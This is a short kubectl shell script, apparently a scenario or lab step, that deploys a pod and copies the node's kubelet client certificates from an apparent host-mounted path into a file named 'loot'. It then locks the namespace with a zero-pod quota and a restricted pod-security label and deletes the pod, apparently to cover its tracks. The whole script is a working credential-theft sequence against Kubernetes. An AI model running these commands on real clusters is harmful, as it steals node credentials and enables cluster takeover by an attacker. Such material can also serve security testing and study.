# scene fails careful-taken (closed-quay): no namespace, no cargo
kubectl apply -f crate.yaml
sleep 3
kubectl -n cargo exec crate -- sh -c 'cat /ship/var/lib/kubelet/pki/kubelet-client-2*.pem' > loot
kubectl create quota none -n cargo --hard=pods=0
kubectl label namespace cargo pod-security.kubernetes.io/enforce=restricted
kubectl -n cargo delete pod crate
